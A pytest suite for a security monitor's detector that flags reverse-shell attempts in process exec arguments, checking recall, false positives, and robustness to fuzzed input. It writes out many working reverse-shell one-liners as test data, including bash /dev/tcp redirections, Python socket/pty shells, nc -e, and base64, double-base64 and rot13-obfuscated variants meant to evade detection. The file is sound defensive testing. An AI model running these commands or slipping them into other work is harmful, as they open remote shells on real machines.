"""Intent at exec: the reverse-shell corpus, the benign corpus, hostile input, and the
engine's attempt -> confirmed severities."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from monitor.detectors import shellwords
from monitor.detectors.intent import RULE_SHELL_INTENT, exec_intent
from monitor.detectors.signals import CONFIDENCE_RANK

pytestmark = pytest.mark.unit

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "intent"
CASES = json.loads((CORPUS / "cases.json").read_text())
SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "rbash"})


def best(argv: list[str]) -> str | None:
    return exec_intent(argv, None, SHELLS).best()


@pytest.mark.parametrize("case", CASES["malicious"], ids=lambda c: c["id"])
def test_reverse_shell_corpus(case: dict) -> None:
    got = exec_intent(case["argv"], None, SHELLS)
    assert got.best() == case["expect"], [(s.name, s.detail) for s in got.signals]
    # one piece of evidence at most: the rest is low context
    assert sum(1 for s in got.signals if s.confidence != "low") <= 1
    for s in got.signals:
        assert len(s.detail) <= 256 and "\x1b" not in s.detail


@pytest.mark.parametrize("case", CASES["benign"], ids=lambda c: c["id"])
def test_benign_corpus_is_silent(case: dict) -> None:
    got = exec_intent(case["argv"], None, SHELLS)
    assert got.signals == [], [(s.name, s.detail) for s in got.signals]


def test_recall_and_false_positives_summary() -> None:
    hits = [c for c in CASES["malicious"] if best(c["argv"]) is not None]
    fps = [c for c in CASES["benign"] if best(c["argv"]) is not None]
    assert len(hits) == len(CASES["malicious"]) and not fps
    assert len(CASES["malicious"]) >= 50 and len(CASES["benign"]) >= 40


def test_every_source_is_cited() -> None:
    text = (CORPUS / "CASES.md").read_text()
    for case in CASES["malicious"] + CASES["benign"]:
        assert f"| {case['source']} |" in text, case["id"]


def test_targets_are_extracted() -> None:
    got = exec_intent(["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"], None, SHELLS)
    assert got.target is not None and (got.target.host, got.target.port) == (
        "198.51.100.9",
        "4444",
    )
    py6 = next(c for c in CASES["malicious"] if c["id"] == "py-ipv6")
    got = exec_intent(py6["argv"], None, SHELLS)
    assert got.target is not None and got.target.host == "dead:beef:2::125c"


def test_decoded_payload_is_shown_and_undecodable_is_said() -> None:
    ht = next(c for c in CASES["malicious"] if c["id"] == "ht-b64-bash")
    sigs = exec_intent(ht["argv"], None, SHELLS).signals
    decoded = [s.detail for s in sigs if s.name == "intent.decoded"]
    assert decoded and "/dev/tcp/10.8.4.185/4444" in decoded[0]
    sigs = exec_intent(["bash", "-c", "echo $P | base64 -d | bash"], None, SHELLS).signals
    assert [s.name for s in sigs] == ["intent.undecoded"] and sigs[0].confidence == "low"
    assert "expansion" in sigs[0].detail


# -- the cheap ways around it ------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        # wrappers in front of the shell
        ["bash", "-c", "nohup setsid timeout 60 bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 &"],
        # quotes inside the program name
        ["bash", "-c", "b'a'\"s\"h -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
        # a here-document into a shell
        ["bash", "-c", "bash <<'EOF'\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\nEOF\n"],
        # double base64
        [
            "bash",
            "-c",
            "echo WW1GemFDQXRhU0ErSmlBdlpHVjJMM1JqY0M4eE1DNHdMakF1TVM4ME1qUXlJREErSmpFPQ== "
            "| base64 -d | base64 -d | bash",
        ],
        # an interpreter reading the program from a decoded pipe
        [
            "sh",
            "-c",
            "echo aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTAuMC4wLjEiL"
            "DQyNDIpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk7b3MuZHVwMihzLmZpbGVubygpLDEpO3B0eS5zcGF3bigiL2"
            "Jpbi9zaCIp | base64 -d | python3",
        ],
        # getattr instead of attribute access
        [
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));"
            "d=getattr(os,'dup2');d(s.fileno(),0);d(s.fileno(),1);getattr(pty,'spawn')('sh')",
        ],
        # nc under a versioned name and a flag cluster
        ["/usr/bin/nc.traditional", "-nve", "/bin/sh", "10.0.0.1", "4242"],
        # rot13 inside exec
        [
            "python3",
            "-c",
            "import codecs;exec(codecs.decode('vzcbeg fbpxrg,bf,cgl;f=fbpxrg.fbpxrg();"
            'f.pbaarpg(("10.0.0.1",4242));bf.qhc2(f.svyrab(),0);bf.qhc2(f.svyrab(),1);'
            "cgl.fcnja(\"/ova/fu\")','rot13'))",
        ],
    ],
    ids=[
        "wrappers",
        "quoted-name",
        "heredoc",
        "double-b64",
        "b64-to-python",
        "getattr",
        "nc-cluster",
        "rot13",
    ],  # fmt: skip
)
def test_evasions_still_read(argv: list[str]) -> None:
    assert best(argv) == "medium", exec_intent(argv, None, SHELLS).signals


@settings(max_examples=300)
@given(st.lists(st.text(max_size=300), min_size=1, max_size=6))
def test_hostile_argv_never_raises(argv: list[str]) -> None:
    got = exec_intent(["bash", "-c", *argv], None, SHELLS)
    for s in got.signals:
        assert len(s.detail) <= 256
        assert CONFIDENCE_RANK[s.confidence]


@settings(max_examples=200)
@given(st.text(alphabet="()[]{}$'\"`\\|&;<># \n0123456789abc/=", max_size=400))
def test_lexer_never_raises(text: str) -> None:
    shellwords.parse(text)
    exec_intent(["python3", "-c", text], None, SHELLS)
    exec_intent(["perl", "-e", text], None, SHELLS)


def test_huge_and_deep_input_is_bounded() -> None:
    deep = "bash -c '" * 200 + "x"
    assert best(["bash", "-c", deep]) is None
    huge = "(" * 5000 + ")" * 5000
    assert best(["python3", "-c", huge]) is None
    b64 = "echo " + "QUFB" * 100_000 + " | base64 -d | bash"
    exec_intent(["bash", "-c", b64], None, SHELLS)


# -- through the engine: attempt vs. effect ------------------------------------------------


def test_engine_raises_attempt_high_and_confirms_critical() -> None:
    from tests.unit.test_engine import OUTSIDE, World, ids

    w = World()
    line = f"bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1"
    attempt = w.exec(80, ["/bin/bash", "-c", line])
    assert ids(attempt) == [RULE_SHELL_INTENT]
    assert attempt[0].severity == "high"
    assert attempt[0].extra["connect_back"] == {"address": OUTSIDE, "port": "4444"}
    # the same process execs bash -i after the redirections (bash's one-command exec)
    w.connect(80, OUTSIDE, 4444, fd=3)
    w.dup(80, 3, 1)
    confirmed = w.dup(80, 1, 0)
    assert ids(confirmed) == ["RLG-SHL-001", RULE_SHELL_INTENT]
    assert confirmed[1].severity == "critical"
    assert any(s.name == "intent.confirmed" for s in confirmed[1].signals)
    # the exec'd bash -i reads nothing new: no second intent, no repeat
    assert RULE_SHELL_INTENT not in ids(w.exec(80, ["/bin/bash", "-i"]))


def test_engine_benign_exec_is_silent() -> None:
    from tests.unit.test_engine import World

    w = World()
    for i, case in enumerate(CASES["benign"]):
        got = w.exec(1000 + i, case["argv"])
        assert not [f for f in got if f.rule.id == RULE_SHELL_INTENT], case["id"]


def test_rule_is_in_the_catalogue() -> None:
    from monitor.detectors.rules import load_rules

    rule = load_rules()[RULE_SHELL_INTENT]
    assert rule.severity_for == {"low": "low", "medium": "high", "high": "critical"}
    assert re.match(r"T1059", rule.techniques[0][0])


def test_wrappers_are_read_through_and_the_lab_servers_are_silent() -> None:
    """`ip netns exec NS python3 -c CODE` names the interpreter: its code is read as Python
    (never guessed as Perl), so the test servers the lab starts raise nothing."""
    from monitor.lab.outside import DNS_SERVER, POOL_SERVER, SHELL_LISTENER
    from monitor.lab.servers import SERVER

    for code in (POOL_SERVER, DNS_SERVER, SHELL_LISTENER, SERVER):
        argv = ["ip", "netns", "exec", "rlg-x", "/usr/bin/python3", "-c", code, "x"]
        assert exec_intent(argv, "/usr/sbin/ip", SHELLS).signals == []
    line = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"
    assert best(["ip", "netns", "exec", "ns", "bash", "-c", line]) == "medium"
    assert best(["nsenter", "-t", "1", "-n", "bash", "-c", line]) == "medium"
